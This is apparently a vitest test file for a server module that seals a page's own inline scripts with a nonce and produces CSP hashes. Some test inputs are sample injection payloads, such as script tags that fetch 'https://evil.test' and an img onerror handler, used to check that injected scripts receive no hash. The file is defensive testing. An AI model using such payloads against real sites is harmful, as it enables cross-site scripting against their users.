import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { newMark, sealed } from './own-scripts.server.ts'

const hash = (code: string): string => `'sha256-${createHash('sha256').update(code, 'utf8').digest('base64')}'`
const MARK = newMark()
const seal = (html: string) => sealed(Buffer.from(html), MARK)

describe('our own scripts of a page', () => {
  it('are told by their mark, in whatever script they are written, each once', () => {
    const own = `<script nonce="${MARK}">let a = "Привет 🙂"</script>`
    const { html, hashes } = seal(`${own}${own}<p>ü</p><script type="module" nonce="${MARK}">b()</script>`)
    expect(hashes).toEqual([hash('let a = "Привет 🙂"'), hash('b()')])
    expect(Buffer.from(html, 'latin1').toString()).toBe(
      '<script>let a = "Привет 🙂"</script><script>let a = "Привет 🙂"</script><p>ü</p><script type="module">b()</script>',
    )
  })
  it.each([
    ['a script that was written into the page', '<script>fetch("https://evil.test")</script>'],
    ['one with a mark that was guessed', `<script nonce="${newMark()}">fetch("https://evil.test")</script>`],
    ['one that is left open before ours', `<script>fetch("https://evil.test")<p>`],
    ['a handler', '<img src=x onerror="fetch(1)">'],
  ])('are not %s', (_, injected) => {
    expect(seal(`${injected}<script nonce="${MARK}">ours()</script>`).hashes.filter((known) => known !== hash('ours()'))).toEqual([])
  })
  it('need no hash where they are a file or only data', () => {
    const page = `<script nonce="${MARK}" src="/assets/a.js"></script><script type="application/ld+json" nonce="${MARK}">{}</script>`
    expect(seal(page)).toEqual({ html: page.replaceAll(` nonce="${MARK}"`, ''), hashes: [] })
  })
  it('have another mark in every rendering', () => {
    expect(new Set(Array.from({ length: 100 }, newMark)).size).toBe(100)
  })
})
